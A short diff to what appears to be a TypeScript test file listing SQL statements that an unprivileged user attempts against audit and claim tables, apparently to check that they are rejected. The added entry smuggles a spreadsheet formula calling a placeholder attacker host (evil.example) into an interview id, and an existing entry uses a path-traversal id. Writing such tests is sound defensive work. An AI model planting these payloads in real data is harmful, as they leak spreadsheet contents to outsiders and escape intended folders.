@@ -93,6 +93,12 @@ const attempts: { who: 'beto' | 'sofia'; what: string; statement: string }[] = [
   },
   {
     who: 'beto',
+    what: 'write a trail entry on an interview whose id is a spreadsheet formula',
+    statement: `insert into audit_entries (at, environment, interview_id, action, detail)
+      values (now(), 'production', '=HYPERLINK("https://evil.example/?"&A1)', 'opened', '{}')`,
+  },
+  {
+    who: 'beto',
     what: 'claim an interview whose id climbs out of a folder',
     statement: `insert into claims (environment, interview_id, expires_at) values ('production', '../../x', now() + interval '1 hour')`,
   },
